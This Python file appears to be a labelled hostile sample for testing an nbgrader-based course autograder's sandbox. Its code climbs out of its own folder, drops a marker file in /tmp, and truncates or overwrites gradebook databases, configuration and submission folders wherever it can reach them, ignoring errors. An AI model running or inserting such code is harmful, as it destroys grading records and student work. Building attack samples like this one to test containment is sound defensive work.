# class: touches
# what: deletes and overwrites whatever it can reach outside its folder
import os, pathlib
open("/tmp/gancourse-attack-marker", "w").write("I was here")
here = pathlib.Path.cwd()
for folder in [*here.parents, pathlib.Path("/tmp"), pathlib.Path("/var/tmp")]:
    for name in ("gradebook.db", "nbgrader_config.py", "submitted", "source", "release", "autograded"):
        path = folder / name
        try:
            if path.is_dir():
                for base, _, files in os.walk(path):
                    for file in files:
                        os.truncate(os.path.join(base, file), 0)
            elif path.exists():
                path.write_text("overwritten")
        except OSError:
            pass
